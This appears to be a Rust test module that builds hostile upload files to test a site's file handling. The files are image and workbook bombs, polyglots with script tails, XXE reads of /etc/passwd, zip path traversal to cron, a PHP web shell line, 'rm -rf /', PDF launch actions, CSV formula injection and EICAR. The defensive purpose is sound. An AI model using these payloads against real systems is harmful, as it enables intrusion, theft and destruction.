//! The hostile files, made as they are needed: nothing hostile lies in the repository.

use std::io::{Cursor, Write as _};

use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipWriter};

use super::picture::{self, PNG};
use crate::prove::dice::Dice;
use crate::site::Trouble;

/// How a file is sent.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Way {
    /// As a photograph with a clue.
    Photo,
    /// As case files to be examined.
    Examine,
    /// As a table of benchmarks to be checked.
    Table,
}

/// What must become of it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Due {
    /// It is not taken, and the page says why.
    Refused,
    /// It is kept, and kept apart.
    Apart,
    /// It is kept and not shown: a download.
    Download,
    /// It is sound and heavy: taken, within the same bounds.
    Heavy,
    /// Whatever; only the bounds count, and that it is not shown unless it is a picture.
    Bounded,
}

/// A hostile file.
#[derive(Clone, Debug)]
pub struct Hostile {
    /// What is hostile about it.
    pub what: &'static str,
    /// The name its sender gives it.
    pub name: &'static str,
    /// Its bytes.
    pub bytes: Vec<u8>,
    /// How it is sent.
    pub way: Way,
    /// What must become of it.
    pub due: Due,
}

/// The agreed test signature, in two parts: this program bears it not.
const SIGNATURE: [&str; 2] =
    ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR", "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"];
const MAIN: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const RELATIONS: &str = "http://schemas.openxmlformats.org/package/2006/relationships";
const OFFICE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/// So many files: first one of each kind, then sound and hostile ones with bytes changed.
pub fn corpus(count: usize, mut dice: impl FnMut(usize) -> Dice) -> Result<Vec<Hostile>, Trouble> {
    let mut all = pictures()?;
    all.extend(strangers());
    all.extend(documents());
    all.extend(workbooks()?);
    all.extend(texts());
    let seeds = seeds()?;
    let mut trial = 0;
    while all.len() < count {
        let mut dice = dice(trial);
        trial += 1;
        let Some(seed) = dice.one(&seeds) else { return Err("nothing to change".into()) };
        let mut file = seed.clone();
        for _ in 0..=dice.below(24) {
            let at = usize::try_from(dice.below(u64::try_from(file.bytes.len())?))?;
            if let Some(byte) = file.bytes.get_mut(at) {
                *byte = u8::try_from(dice.below(256))?;
            }
        }
        if dice.below(4) == 0 {
            let left = usize::try_from(dice.below(u64::try_from(file.bytes.len())?))?;
            file.bytes.truncate(left.max(16));
        }
        // Every file is one that nobody sent before.
        file.bytes.extend(dice.bytes(8));
        all.push(file);
    }
    Ok(all)
}

/// Sound files, one for each way.
pub fn sound() -> Result<Vec<Hostile>, Trouble> {
    let mut all = seeds()?;
    for file in &mut all {
        file.what = "完好的文件 sound file";
        file.due = if file.way == Way::Photo { Due::Heavy } else { Due::Refused };
    }
    Ok(all)
}

/// Sound files whose bytes are changed.
fn seeds() -> Result<Vec<Hostile>, Trouble> {
    let photo = |bytes, name| Hostile {
        what: "字节被改的图片 changed picture",
        name,
        bytes,
        way: Way::Photo,
        due: Due::Bounded,
    };
    let book = |way| -> Result<Hostile, Trouble> {
        let (what, bytes) = ("字节被改的表格 changed workbook", workbook("甲", &[])?);
        Ok(Hostile { what, name: "a.xlsx", bytes, way, due: Due::Bounded })
    };
    Ok(vec![
        photo(picture::jpeg(160, 120)?, "a.jpg"),
        photo(picture::webp(160, 120)?, "a.webp"),
        photo(picture::png(160, 120, [8, 2])?, "a.png"),
        book(Way::Examine)?,
        book(Way::Table)?,
    ])
}

fn pictures() -> Result<Vec<Hostile>, Trouble> {
    let mut all = Vec::new();
    let mut add = |what, name, bytes, due| {
        all.push(Hostile { what, name, bytes, way: Way::Photo, due });
    };
    let small = picture::png(32, 32, [8, 2])?;
    for (width, height) in [
        (60_000, 60_000),
        (65_535, 1_000),
        (1, 1_000_000),
        (20_000, 2_600),
        (0, 32),
        (32, 0),
        (u32::MAX, u32::MAX),
        (0x7fff_ffff, 1),
        (16_384, 16_384),
        (7_100, 7_100),
    ] {
        let claimed = picture::claiming(&small, width, height);
        add("像素炸弹 pixel flood", "a.png", claimed, Due::Apart);
    }
    for tenth in 1..10 {
        let cut = small.get(..small.len() * tenth / 10).unwrap_or_default().to_vec();
        if PNG.len() < cut.len() {
            add("截断的图片 cut picture", "a.png", cut, Due::Apart);
        }
    }
    let (jpeg, webp) = (picture::jpeg(320, 240)?, picture::webp(320, 240)?);
    for (name, whole) in [("a.jpg", &jpeg), ("a.webp", &webp)] {
        for fifth in 1..5 {
            let cut = whole.get(..whole.len() * fifth / 5).unwrap_or_default().to_vec();
            add("截断的图片 cut picture", name, cut, Due::Bounded);
        }
    }
    add("大图 heavy picture", "a.png", picture::png(7_000, 7_000, [8, 2])?, Due::Heavy);
    add("大图 heavy picture", "a.png", picture::png(6_000, 6_000, [16, 6])?, Due::Bounded);
    let sizes = picture::scans(&jpeg, 60_000);
    add("无尽扫描 endless scans", "a.jpg", sizes, Due::Bounded);
    for kind in [*b"zTXt", *b"iCCP", *b"iTXt"] {
        let bomb = picture::with_chunk(&small, kind, &picture::deflated(200_000_000)?);
        add("压缩的附注 packed note", "a.png", bomb, Due::Bounded);
    }
    for (name, whole) in [("a.png", &small), ("a.jpg", &jpeg), ("a.webp", &webp)] {
        for tail in tails()? {
            let both = [whole.as_slice(), &tail].concat();
            add("藏在图片里的东西 polyglot", name, both, Due::Apart);
        }
    }
    Ok(all)
}

/// What hides behind the end of a picture.
fn tails() -> Result<Vec<Vec<u8>>, Trouble> {
    let mut all: Vec<Vec<u8>> = [
        "<script>alert(1)</script>",
        "<HTML><body onload=x>",
        "<svg/onload=x>",
        "<!DOCTYPE html><p>",
        "<iframe src=//x>",
    ]
    .map(|words| words.as_bytes().to_vec())
    .to_vec();
    all.push(archive(&[("../../../../etc/cron.d/x", b"* * * * * root x".to_vec())])?);
    all.push(SIGNATURE.concat().into_bytes());
    Ok(all)
}

/// Files that are called photographs and are none.
fn strangers() -> Vec<Hostile> {
    let heads: [(&str, &[u8]); 20] = [
        ("a.jpg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        ("a.jpg", b"<html><script>alert(1)</script></html>"),
        ("a.png", b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"),
        ("a.png", b"\x7fELF\x02\x01\x01\0"),
        ("a.jpg", b"MZ\x90\0\x03\0\0\0PE\0\0"),
        ("a.jpg", b"#!/bin/sh\nrm -rf /\n"),
        ("a.jpg", b"<?php system($_GET[0]); ?>"),
        ("a.jpg", b"GIF89a\x01\0\x01\0\x80\0\0"),
        ("a.jpg", b"BM\x9a\x02\0\0\0\0\0\0"),
        ("a.jpg", b"II*\0\x08\0\0\0"),
        ("a.png", b"PK\x03\x04\x14\0\0\0\x08\0"),
        ("a.png", b"Rar!\x1a\x07\x01\0"),
        ("a.png", b"7z\xbc\xaf\x27\x1c\0\x04"),
        ("a.png", b"\x1f\x8b\x08\0\0\0\0\0"),
        ("a.png", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
        ("a.jpg", b"\0asm\x01\0\0\0"),
        ("a.jpg", b"%!PS-Adobe-3.0\n(x) run\n"),
        ("a.jpg", b"{\\rtf1\\object}"),
        ("a.jpg", b"\x89PMG\r\n\x1a\n"),
        ("a.jpg", b""),
    ];
    let all = heads.into_iter().map(|(name, bytes)| Hostile {
        what: "冒充图片的文件 called a picture",
        name,
        bytes: bytes.to_vec(),
        way: Way::Photo,
        due: Due::Refused,
    });
    all.collect()
}

fn documents() -> Vec<Hostile> {
    let pdf =
        |body: &str| format!("%PDF-1.7\n{body}\ntrailer<</Root 1 0 R>>\n%%EOF\n").into_bytes();
    let active = [
        "1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
        "1 0 obj<</Type/Catalog/AA<</O<</S/javascript>>>>>>endobj",
        "1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>endobj",
        "1 0 obj<</Type/EmbeddedFile/Length 4>>stream\nMZ..\nendstream endobj",
        "1 0 obj<</Names<</EmbeddedFiles 2 0 R>>/AF[3 0 R]>>endobj",
        "1 0 obj<</Subtype/RichMedia>>endobj",
        "1 0 obj<</S/SubmitForm/F(http://x.invalid)>>endobj",
    ];
    let deep = format!("1 0 obj{}endobj", "[".repeat(500_000));
    let many = (1..60_000).map(|it| format!("{it} 0 obj<<>>endobj\n")).collect::<Vec<_>>().concat();
    let quiet = [deep, many, "1 0 obj<</Kids[1 0 R]>>endobj\nxref\n0 4294967295\n".to_owned()];
    let file = |what, name, bytes, due| Hostile { what, name, bytes, way: Way::Photo, due };
    let mut all: Vec<Hostile> = active
        .iter()
        .map(|body| file("会自己动的PDF active PDF", "a.pdf", pdf(body), Due::Apart))
        .collect();
    all.extend(
        quiet.iter().map(|body| file("读不完的PDF endless PDF", "a.pdf", pdf(body), Due::Download)),
    );
    let bad = SIGNATURE.concat();
    let held: [(&str, Vec<u8>); 5] = [
        ("a.com", bad.clone().into_bytes()),
        ("a.pdf", pdf(&bad)),
        ("a.mp4", [b"\0\0\0\x20ftypisom\0\0\x02\0".as_slice(), bad.as_bytes()].concat()),
        ("a.mp3", [b"ID3\x03\0\0\0\0\0\0".as_slice(), bad.as_bytes()].concat()),
        ("a.txt", format!("请查收附件\n{bad}").into_bytes()),
    ];
    for (name, bytes) in held {
        all.push(file("恶意程序特征 EICAR", name, bytes, Due::Apart));
    }
    all
}

fn archive(parts: &[(&str, Vec<u8>)]) -> Result<Vec<u8>, Trouble> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in parts {
        let options = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
        zip.start_file(*name, options)?;
        zip.write_all(bytes)?;
    }
    Ok(zip.finish()?.into_inner())
}

/// A workbook with one text in its first cell, and more parts.
fn workbook(text: &str, more: &[(&str, Vec<u8>)]) -> Result<Vec<u8>, Trouble> {
    let rows = "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c></row>".to_owned();
    book(&format!("<sst xmlns=\"{MAIN}\"><si><t>{text}</t></si></sst>"), &rows, more)
}

fn book(strings: &str, rows: &str, more: &[(&str, Vec<u8>)]) -> Result<Vec<u8>, Trouble> {
    let relation = |id: &str, kind: &str, target: &str| {
        format!("<Relationship Id=\"{id}\" Type=\"{OFFICE}/{kind}\" Target=\"{target}\"/>")
    };
    let relations = |all: String| {
        format!("<Relationships xmlns=\"{RELATIONS}\">{all}</Relationships>").into_bytes()
    };
    let sheets = format!(
        "<workbook xmlns=\"{MAIN}\" xmlns:r=\"{OFFICE}\"><sheets>\
         <sheet name=\"案卷\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>"
    );
    let sheet = format!("<worksheet xmlns=\"{MAIN}\"><sheetData>{rows}</sheetData></worksheet>");
    let mut parts = vec![
        ("_rels/.rels", relations(relation("rId1", "officeDocument", "xl/workbook.xml"))),
        (
            "xl/_rels/workbook.xml.rels",
            relations(
                relation("rId1", "worksheet", "worksheets/sheet1.xml")
                    + &relation("rId2", "sharedStrings", "sharedStrings.xml"),
            ),
        ),
        ("xl/workbook.xml", sheets.into_bytes()),
        ("xl/sharedStrings.xml", strings.as_bytes().to_vec()),
        ("xl/worksheets/sheet1.xml", sheet.into_bytes()),
    ];
    parts.extend_from_slice(more);
    archive(&parts)
}

fn workbooks() -> Result<Vec<Hostile>, Trouble> {
    let zeros = vec![0; 60 * 1024 * 1024];
    let nested = archive(&[("a.zip", archive(&[("b", zeros.clone())])?)])?;
    let cell = |row: u32| format!("<row r=\"{row}\"><c r=\"NZ{row}\" t=\"s\"><v>0</v></c></row>");
    let far: String = (1..60_000).map(cell).collect();
    let shared = |text: &str| format!("<sst xmlns=\"{MAIN}\"><si><t>{text}</t></si></sst>");
    let many = format!("<sst xmlns=\"{MAIN}\">{}</sst>", "<si><t>x</t></si>".repeat(2_500_000));
    let laughs = "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"ha\">\
        <!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>";
    let laughing = format!("{laughs}<sst xmlns=\"{MAIN}\"><si><t>&c;&c;</t></si></sst>");
    let outside =
        laughing.replace("<!ENTITY a \"ha\">", "<!ENTITY a SYSTEM \"file:///etc/passwd\">");
    let deep = format!("{}{}", "<si>".repeat(400_000), "</si>".repeat(400_000));
    let deep = format!("<sst xmlns=\"{MAIN}\">{deep}</sst>");
    let first = "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c></row>";
    let entries: Vec<(String, Vec<u8>)> =
        (0..20_000).map(|it| (format!("xl/{it}"), Vec::new())).collect();
    let entries: Vec<(&str, Vec<u8>)> =
        entries.iter().map(|(name, bytes)| (name.as_str(), bytes.clone())).collect();
    let mut bombs = vec![
        workbook("甲", &[("xl/media/0", zeros.clone()), ("xl/media/1", zeros.clone())])?,
        workbook("甲", &[("xl/media/a.zip", nested.clone())])?,
        nested,
        book(&shared(&"长".repeat(400_000)), &far, &[])?,
        book(&shared("远"), &far, &[])?,
        book(&many, first, &[])?,
        book(&laughing, first, &[])?,
        book(&outside, first, &[])?,
        book(&deep, first, &[])?,
        book(&shared("甲"), "<row r=\"4294967295\"><c r=\"XFD1048576\"><v>1</v></c></row>", &[])?,
        book(&shared("甲"), "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>99999999999</v></c></row>", &[])?,
        book(
            &shared("甲"),
            "<row r=\"1\"><c r=\"A1\"><f>WEBSERVICE(\"http://x.invalid\")</f></c></row>",
            &[],
        )?,
        workbook("甲", &entries)?,
        workbook("甲", &[("../../../../etc/x", b"x".to_vec()), ("/etc/cron.d/x", b"x".to_vec())])?,
        archive(&[("xl/workbook.xml", zeros)])?,
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 sealed".to_vec(),
        b"PK\x05\x06\0\0\0\0\xff\xff\xff\xff\xff\xff\xff\xff\0\0\0\0\0\0".to_vec(),
        b"PK\x03\x04".repeat(100_000),
        b"no workbook".to_vec(),
    ];
    let whole = workbook("甲", &[])?;
    for half in [whole.len() / 3, whole.len() / 2, whole.len() - 10] {
        bombs.push(whole.get(..half).unwrap_or_default().to_vec());
    }
    let mut linked = ZipWriter::new(Cursor::new(Vec::new()));
    linked.add_symlink("xl/workbook.xml", "/etc/passwd", SimpleFileOptions::default())?;
    bombs.push(linked.finish()?.into_inner());
    let mut all = Vec::new();
    for bytes in bombs {
        for way in [Way::Examine, Way::Table] {
            let (what, bytes) = ("表格炸弹 workbook bomb", bytes.clone());
            all.push(Hostile { what, name: "a.xlsx", bytes, way, due: Due::Refused });
        }
    }
    Ok(all)
}

fn texts() -> Vec<Hostile> {
    let laughs = "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a]\nc: [*b,*b,*b,*b,*b]\n";
    let bodies: [Vec<u8>; 14] = [
        laughs.as_bytes().to_vec(),
        "[".repeat(1_000_000).into_bytes(),
        "{a: ".repeat(500_000).into_bytes(),
        "- ".repeat(2_000_000).into_bytes(),
        "a:\n".repeat(1_000_000).into_bytes(),
        b"!!python/object/apply:os.system ['x']\n".to_vec(),
        b"\xff\xfe\0\0a".to_vec(),
        b"a: \0\0\0\n".to_vec(),
        b"\t- x\n".to_vec(),
        format!("{}: x\n", "k".repeat(4_000_000)).into_bytes(),
        "---\n".repeat(1_000_000).into_bytes(),
        b"%YAML 9.9\n---\n<<: *x\n".to_vec(),
        b"? ? ? ? ? ?\n".to_vec(),
        b"a: |\n".to_vec(),
    ];
    let mut all: Vec<Hostile> = bodies
        .into_iter()
        .map(|bytes| Hostile {
            what: "文本炸弹 text bomb",
            name: "a.yaml",
            bytes,
            way: Way::Examine,
            due: Due::Refused,
        })
        .collect();
    for bytes in
        [b"=cmd|' /C calc'!A0,x\n".to_vec(), ",".repeat(1_900_000).into_bytes(), b"\"".to_vec()]
    {
        let what = "文本炸弹 text bomb";
        all.push(Hostile { what, name: "a.csv", bytes, way: Way::Table, due: Due::Refused });
    }
    all
}
